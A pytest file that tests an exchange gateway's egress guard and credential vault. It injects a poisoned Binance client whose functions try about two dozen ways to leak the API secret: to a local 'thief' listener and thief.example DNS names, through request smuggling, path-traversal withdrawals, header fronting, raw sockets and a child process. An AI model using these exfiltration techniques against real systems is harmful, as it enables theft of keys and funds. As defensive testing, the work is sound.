"""A poisoned exchange client in the environment: whatever it does with what it was given, nobody else hears of it.

The thief listens on this machine, so that code that gets out is caught at it: the first test shows that it would be.
"""

from __future__ import annotations

import asyncio
import ctypes
import json
import pickle
import socket
import subprocess
import sys
import urllib.request
from collections.abc import AsyncIterator, Awaitable, Callable
from contextlib import asynccontextmanager
from typing import Any

import aiohttp
import ccxt.pro
import pytest
import requests
from aiohttp import web
from yarl import URL

from tests.adapters.exchanges.wire_kit import BadWire, Desk, Fault, buy, desk
from tradepool.adapters.exchanges.guard import OffTheList
from tradepool.adapters.exchanges.vault import Credentials
from tradepool.domain.errors import KeyRefused, TradepoolError
from tradepool.runtime.egress import EgressRefused, sealed
from tradepool.simexchange.tls import TlsFiles

SECRET = "the-secret-" + "of-this-user"
BINANCE = ccxt.pro.binance
API = "https://api.binance.com"


class Thief:
    """Takes whatever is sent to a port of this machine."""

    port = 0
    visits = 0
    taken = b""

    async def _take(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.visits += 1
        self.taken += await reader.read(65_536)
        writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}")
        await writer.drain()
        writer.close()


@asynccontextmanager
async def thief() -> AsyncIterator[Thief]:
    """A thief at work."""
    him = Thief()
    server = await asyncio.start_server(him._take, "127.0.0.1", 0)
    him.port = server.sockets[0].getsockname()[1]
    async with server:
        yield him


class Poisoned(BINANCE):  # type: ignore[misc,valid-type]
    """The real client, and an errand in its `fetch`; the loot is all that it holds."""

    him: Thief
    errand: Callable[[Poisoned, str], Awaitable[object]]

    @property
    def loot(self) -> str:
        return f"{self.apiKey}:{self.secret}"

    async def fetch(self, url: str, method: str = "GET", headers: Any = None, body: Any = None) -> Any:
        if not self.apiKey or method != "POST":
            return await super().fetch(url, method, headers, body)
        return await type(self).errand(self, f"http://127.0.0.1:{self.him.port}/")


async def other_host(client: Poisoned, place: str) -> object:
    return await BINANCE.fetch(client, place.replace("http:", "https:") + client.loot, "POST", {}, client.secret)


async def withdraw(client: Poisoned, place: str) -> object:
    signed = client.sign("capital/withdraw/apply", ["sapi"], "POST", {"coin": "BTC", "address": "thief", "amount": 1})
    return await BINANCE.fetch(client, signed["url"], "POST", signed["headers"], signed["body"])


async def transfer(client: Poisoned, place: str) -> object:
    signed = client.sign("asset/transfer", ["sapi"], "POST", {"type": "MAIN_FUNDING", "asset": "BTC", "amount": 1})
    return await BINANCE.fetch(client, signed["url"], "POST", signed["headers"], signed["body"])


async def spelled(client: Poisoned, place: str) -> object:
    return await client.session.post(f"{API}/api/v3/order/../../../sapi/v1/capital/withdraw/apply")


async def proxy(client: Poisoned, place: str) -> object:
    return await client.session.get(f"{API}/api/v3/time", proxy=place, headers={"x": client.loot})


async def fronted(client: Poisoned, place: str) -> object:
    return await client.session.get(f"{API}/api/v3/time", headers={"Host": "thief.example", "x": client.loot})


async def unchecked(client: Poisoned, place: str) -> object:
    return await client.session.get(f"{API}/api/v3/time", ssl=False)


async def plain(client: Poisoned, place: str) -> object:
    return await client.session.get("http://api.binance.com/api/v3/time")


async def web_socket(client: Poisoned, place: str) -> object:
    return await client.session.ws_connect(place.replace("http:", "wss:"), headers={"x": client.loot})


async def escaping(client: Poisoned, place: str) -> object:
    address = "wss://ws-api.binance.com:443/ws-api/v3/../../sapi/v1/capital/withdraw/apply?signature=0"
    return await client.session.request("POST", URL(address, encoded=True), headers={"X-MBX-APIKEY": client.apiKey})


async def smuggled(client: Poisoned, place: str) -> object:
    body = b"POST /sapi/v1/capital/withdraw/apply HTTP/1.1\r\nHost: api.binance.com\r\n\r\n"
    return await client.session.post(f"{API}/api/v3/order", data=body, headers={"Content-Length": "0"})


async def chunked(client: Poisoned, place: str) -> object:
    return await client.session.post(f"{API}/api/v3/order", data=b"0", headers={"Transfer-Encoding": "chunked"})


async def overridden(client: Poisoned, place: str) -> object:
    return await client.session.get(f"{API}/api/v3/account", headers={"X-HTTP-Method-Override": "POST"})


async def look_up(client: Poisoned, place: str) -> object:
    return await client.session.get(f"https://{client.secret}.thief.example/")


async def own_session(client: Poisoned, place: str) -> object:
    async with aiohttp.ClientSession() as session, session.post(place, data=client.loot) as answer:
        return await answer.text()


async def with_urllib(client: Poisoned, place: str) -> object:
    return await asyncio.to_thread(urllib.request.urlopen, place, client.loot.encode())


async def with_requests(client: Poisoned, place: str) -> object:
    return await asyncio.to_thread(requests.post, place, client.loot)


async def with_a_socket(client: Poisoned, place: str) -> object:
    with socket.create_connection(("127.0.0.1", client.him.port)) as line:
        return line.send(client.loot.encode())


async def with_a_datagram(client: Poisoned, place: str) -> object:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
        return line.sendto(client.loot.encode(), ("127.0.0.1", client.him.port))


async def with_a_name(client: Poisoned, place: str) -> object:
    return socket.getaddrinfo(f"{client.secret}.thief.example", 80)


async def listening(client: Poisoned, place: str) -> object:
    with socket.socket() as line:
        line.listen()
        return line.accept()


async def bound(client: Poisoned, place: str) -> object:
    with socket.socket(socket.AF_UNIX) as line:
        line.bind("\0thief")
    return None


async def with_libc(client: Poisoned, place: str) -> object:
    return ctypes.pythonapi.getppid()


async def with_a_child(client: Poisoned, place: str) -> object:
    code = f"import urllib.request; urllib.request.urlopen({place!r}, {client.loot.encode()!r})"
    return await asyncio.to_thread(subprocess.run, [sys.executable, "-c", code], check=True)


async def in_an_allowed_request(client: Poisoned, place: str) -> object:
    return await BINANCE.fetch(
        client, f"{API}/api/v3/order?note={client.loot}", "POST", {"User-Agent": client.loot}, client.loot
    )


THROUGH_OUR_SESSION = [
    other_host, withdraw, transfer, spelled, proxy, fronted, unchecked, plain, web_socket, look_up,
    escaping, smuggled, chunked, overridden,
]  # fmt: skip
AROUND_IT = [
    own_session, with_urllib, with_requests, with_a_socket, with_a_datagram, with_a_name, with_a_child,
    listening, bound, with_libc,
]  # fmt: skip


class Listening(BadWire):
    """The venue, and every byte of a request it was sent."""

    heard = b""

    async def _answer(self, request: web.BaseRequest) -> web.Response:
        type(self).heard += f"{request.raw_path}{request.raw_headers}".encode() + await request.read()
        return await super()._answer(request)


def test_the_thief_takes_what_is_not_guarded() -> None:
    """Else no test here could fail."""

    async def tell() -> None:
        async with thief() as him, aiohttp.ClientSession() as session:
            client = Poisoned({"apiKey": "key", "secret": SECRET, "session": session})
            client.him = him
            await own_session(client, f"http://127.0.0.1:{him.port}/")
            assert SECRET.encode() in him.taken

    asyncio.run(tell())


@pytest.mark.parametrize("errand", [*THROUGH_OUR_SESSION, *AROUND_IT], ids=lambda each: each.__name__)
def test_an_errand_of_a_poisoned_client_is_stopped(
    files: TlsFiles, monkeypatch: pytest.MonkeyPatch, errand: Callable[[Poisoned, str], Awaitable[object]]
) -> None:
    """No connection, an alarm that names it, and the secret nowhere: neither at the thief nor at the venue."""
    alarms: list[TradepoolError] = []

    async def story(at: Desk, him: Thief) -> None:
        at.gateway._client.him = him
        taken = len(at.venue.orders("key"))
        with sealed(at.session.guard.reach.names, alarms.append), pytest.raises((OffTheList, EgressRefused)):
            await at.gateway.submit(buy())
        await asyncio.sleep(0.01)
        assert (him.visits, him.taken) == (0, b"")
        assert len(at.venue.orders("key")) == taken
        kind = OffTheList if errand in THROUGH_OUR_SESSION else EgressRefused
        assert [type(alarm) for alarm in alarms] == [kind]
        assert SECRET not in str(alarms[0])

    play(files, monkeypatch, errand, alarms, story)


def test_a_secret_is_not_even_in_what_may_be_sent(files: TlsFiles, monkeypatch: pytest.MonkeyPatch) -> None:
    """The client holds an alias: stuffed into an allowed request, it is all that the venue is told."""

    async def story(at: Desk, him: Thief) -> None:
        at.gateway._client.him = him
        with pytest.raises(KeyRefused):
            await at.gateway.submit(buy())
        assert at.gateway._client.loot.encode() in Listening.heard

    play(files, monkeypatch, in_an_allowed_request, [], story)


def test_what_comes_back_shows_an_alias(files: TlsFiles) -> None:
    """Neither an answer nor a request off the list carries the true key; a pickle carries nothing."""

    async def story() -> None:
        async with desk(files, Fault("NONE"), secret=SECRET) as at:
            client = at.gateway._client
            signed = client.sign("account", ["private"], "GET", {})
            async with client.session.get(URL(signed["url"], encoded=True), headers=signed["headers"]) as answer:
                assert answer.status == 200
                assert answer.request_info.headers["X-MBX-APIKEY"] == client.apiKey != "key"
            query = "coin=BTC&address=thief&signature=00"
            url = URL(f"{API}/api/v3/ping?{query}", encoded=True)
            async with client.session.get(url, headers={"X-MBX-APIKEY": client.apiKey}) as answer:
                assert answer.url.raw_query_string == query, "what is public is not signed"
            params = {"apiKey": client.apiKey, "timestamp": 1, "signature": ""}
            for method, alias in (("order.place", True), ("userDataStream.subscribe.signature", False)):
                sent = json.loads(at.session.vault.sign_message(json.dumps({"method": method, "params": params})))
                assert (sent["params"]["apiKey"] == client.apiKey) is alias

    asyncio.run(story())
    with pytest.raises(TypeError, match="not pickled"):
        pickle.dumps(Credentials("key", SECRET))


def test_a_redirect_leads_nowhere_else(files: TlsFiles, monkeypatch: pytest.MonkeyPatch) -> None:
    """A venue (or who plays it) that points elsewhere is not followed."""
    alarms: list[TradepoolError] = []

    async def story(at: Desk, him: Thief) -> None:
        async def redirect(request: web.BaseRequest) -> web.Response:
            return web.Response(status=307, headers={"Location": f"https://127.0.0.1:{him.port}/"})

        at.gateway._client.him = him
        monkeypatch.setattr(at.server, "_answer", redirect)
        with pytest.raises(OffTheList):
            await at.gateway.submit(buy())
        assert (him.visits, len(alarms)) == (0, 1)

    async def honest(client: Poisoned, place: str) -> object:
        signed = client.sign("order", ["private"], "POST", {"symbol": "BTCUSDT"})
        return await BINANCE.fetch(client, signed["url"], "POST", signed["headers"], signed["body"])

    play(files, monkeypatch, honest, alarms, story)


def play(
    files: TlsFiles,
    monkeypatch: pytest.MonkeyPatch,
    errand: Callable[[Poisoned, str], Awaitable[object]],
    alarms: list[TradepoolError],
    story: Callable[[Desk, Thief], Awaitable[None]],
) -> None:
    """A story with a poisoned ccxt; afterwards the venue has seen no secret either."""
    monkeypatch.setattr(Poisoned, "errand", errand, raising=False)
    monkeypatch.setattr(ccxt.pro, "binance", Poisoned)
    monkeypatch.setattr("tests.adapters.exchanges.wire_kit.BadWire", Listening)
    monkeypatch.setattr(Listening, "heard", b"")

    async def tell() -> None:
        async with thief() as him, desk(files, Fault("NONE"), alarms.append, SECRET) as at:
            await asyncio.wait_for(story(at, him), 60)
        assert b"X-MBX-APIKEY" in Listening.heard
        assert SECRET.encode() not in Listening.heard

    asyncio.run(tell())
